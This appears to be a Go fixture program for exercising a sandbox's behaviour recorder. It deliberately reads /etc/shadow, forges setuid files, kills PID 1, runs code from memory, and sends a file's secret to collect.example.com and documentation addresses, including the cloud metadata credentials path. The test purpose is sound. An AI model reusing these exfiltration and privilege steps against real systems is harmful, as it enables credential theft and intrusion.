package main

import (
	"crypto/sha256"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"io"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strings"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// behave does one thing of every kind that a recorder has to see. That most of
// them fail is the point of the sandbox; they are to be seen all the same.
func behave([]string) {
	try := func(what string, err error) {
		if err != nil {
			fmt.Println(what+":", err)
		}
	}
	_, err := os.ReadFile("/etc/shadow")
	try("read", err)
	_, err = os.ReadDir("/workspace")
	try("list", err)
	try("write", os.WriteFile("/tmp/new", []byte("x"), 0o600))
	try("rename", os.Rename("/tmp/new", "/tmp/newer"))
	try("link", os.Symlink("/etc/passwd", "/tmp/harmless"))
	_, err = os.ReadFile("/tmp/harmless") // leads to /etc/passwd
	try("read through a link", err)
	try("rename a link", os.Rename("/tmp/harmless", "/tmp/pointer"))
	try("delete a link", os.Remove("/tmp/pointer"))
	try("mode", unix.Chmod("/tmp/newer", 0o4755))
	try("owner", os.Chown("/tmp/newer", 0, 0))
	try("delete", os.Remove("/tmp/newer"))
	try("chdir", os.Chdir("/workspace"))
	try("write", os.WriteFile("relative", nil, 0o600))
	try("device", unix.Mknod("/tmp/disk", unix.S_IFBLK|0o600, 0x800))
	try("exec", exec.Command("/attacker", "hello", "one two").Run())
	for _, addr := range []string{"192.0.2.7:443", "[2001:db8::1]:80"} {
		_, err = net.DialTimeout("tcp", addr, time.Second)
		try("connect", err)
	}
	_, err = net.Dial("unix", "/var/run/docker.sock")
	try("local", err)
	try("send", sendTo())
	try("bind", bindTo())
	_, err = unix.MemfdCreate("payload", 0)
	try("memory", err)
	try("ptrace", syscall.PtraceAttach(1))
	try("namespace", syscall.Unshare(syscall.CLONE_NEWNS))
	try("mount", syscall.Mount("none", "/tmp", "tmpfs", 0, ""))
	try("module", call(unix.SYS_FINIT_MODULE, 0, str(""), 0)())
	try("setuid", call(unix.SYS_SETUID, 0)())
	try("io_uring", call(unix.SYS_IO_URING_SETUP, 1, mem(120))())
	try("hide", unix.Prctl(unix.PR_SET_DUMPABLE, 0, 0, 0, 0))
	try("kill", unix.Kill(1, unix.SIGKILL))
	_, err = os.ReadFile("/tmp/after-hiding")
	try("read", err)
}

func sendTo() error {
	c, err := net.ListenUDP("udp4", &net.UDPAddr{IP: net.IPv4(127, 0, 0, 1)})
	if err != nil {
		return err
	}
	defer c.Close()
	_, err = c.WriteTo([]byte("x"), &net.UDPAddr{IP: net.IPv4(198, 51, 100, 9), Port: 53})
	return err
}

func bindTo() error {
	l, err := net.Listen("tcp4", "127.0.0.1:4444")
	if err != nil {
		return err
	}
	return l.Close()
}

// opens opens one file, and then as many different ones, as often as it is told.
func opens(args []string) {
	var n int
	_, _ = fmt.Sscan(args[0], &n)
	for range n {
		fd, err := unix.Open("/tmp", unix.O_RDONLY|unix.O_DIRECTORY, 0)
		if err != nil {
			fmt.Println(err)
			return
		}
		_ = unix.Close(fd)
	}
	if len(args) > 1 {
		for i := range n {
			_, _ = os.Stat(fmt.Sprintf("/tmp/%d", i)) // not watched
			if fd, err := unix.Open(fmt.Sprintf("/tmp/%d", i), unix.O_RDONLY, 0); err == nil {
				_ = unix.Close(fd)
			}
		}
	}
}

// spoil destroys files that keep their names, and leaves one alone.
func spoil([]string) {
	check := func(err error) {
		if err != nil {
			fmt.Println(err)
			os.Exit(1)
		}
	}
	check(os.Truncate("/workspace/truncated", 0))
	check(os.WriteFile("/workspace/opened", nil, 0o600))
	check(os.WriteFile("/workspace/empty", nil, 0o600))
	check(os.Rename("/workspace/empty", "/workspace/replaced"))
	sum := sha256.Sum256([]byte("a key"))
	check(os.WriteFile("/workspace/encrypted", sum[:], 0o600))
	check(os.WriteFile("/tmp/.planted", nil, 0o600))
	f, err := os.OpenFile("/workspace/kept", os.O_RDWR, 0)
	check(err)
	check(f.Close())
}

// unpack makes code appear in the ways in which it does.
func unpack([]string) {
	must := func(err error) {
		if err != nil {
			fmt.Println(err)
		}
	}
	must(os.WriteFile("/tmp/stage2.py", []byte("print('stage 2')\n"), 0o600))
	_, err := os.ReadFile("/tmp/stage2.py")
	must(err)
	must(os.Remove("/tmp/stage2.py"))
	must(os.WriteFile("/workspace/late.sh", []byte("#!/bin/sh\necho later\n"), 0o700))
	must(os.WriteFile("/workspace/data.bin", []byte("not code"), 0o600))
	program, err := os.ReadFile(home)
	must(err)
	fd, err := unix.MemfdCreate("stage3", 0)
	must(err)
	f := os.NewFile(uintptr(fd), "stage3")
	_, err = f.Write(program)
	must(err)
	must(exec.Command(fmt.Sprintf("/proc/self/fd/%d", fd), "hello").Run())
}

// leak takes a secret from a file and leaves it in other shapes elsewhere.
func leak(args []string) {
	secret, err := os.ReadFile(args[0])
	if err != nil {
		fmt.Println(err)
	}
	_ = os.WriteFile("/workspace/out.txt", []byte(hex.EncodeToString(secret)), 0o600)
	fmt.Println(base64.StdEncoding.EncodeToString(secret))
	_ = exec.Command(home, "hello", string(secret)).Run()
}

// phone talks to servers that do not exist, by name and by address.
func phone(args []string) {
	secret, _ := os.ReadFile(args[0])
	client := &http.Client{Timeout: 20 * time.Second}
	show := func(what string, r *http.Response, err error) {
		if err != nil {
			fmt.Println(what, err)
			return
		}
		defer r.Body.Close()
		fmt.Println(what, r.StatusCode)
	}
	r, err := client.Post("https://collect.example.com/in?id=7", "text/plain", strings.NewReader(hex.EncodeToString(secret)))
	show("post", r, err)
	r, err = client.Get("http://203.0.113.77:8081/by-address")
	show("get", r, err)
	r, err = client.Get("http://169.254.169.254/latest/meta-data/iam/security-credentials/")
	show("metadata", r, err)
	c, err := net.DialTimeout("tcp", "198.51.100.7:4444", 5*time.Second)
	if err != nil {
		fmt.Println("raw", err)
		return
	}
	_, err = c.Write([]byte("ready\n"))
	fmt.Println("raw", err, c.Close())
	u, err := net.Dial("udp", "192.0.2.1:9999")
	if err != nil {
		fmt.Println("datagram", err)
		return
	}
	_, err = u.Write([]byte("beacon"))
	fmt.Println("datagram", err, u.Close())
	time.Sleep(100 * time.Millisecond) // the datagram has no one who waits for it
}

// fetch asks for every address that it is given and shows the answers.
func fetch(args []string) {
	client := &http.Client{Timeout: 20 * time.Second}
	for _, url := range args {
		r, err := client.Get(url)
		if err != nil {
			fmt.Println(url, "failed")
			continue
		}
		body, err := io.ReadAll(io.LimitReader(r.Body, 1<<20))
		fmt.Printf("%s %d %d bytes %.40q %v\n", url, r.StatusCode, len(body), body, err)
		r.Body.Close()
	}
}

// compute hashes so many MiB and asks the kernel for nothing.
func compute(args []string) {
	block, h := make([]byte, 1<<20), sha256.New()
	for range number(args, 0) {
		h.Write(block)
	}
	fmt.Printf("%x\n", h.Sum(nil))
}
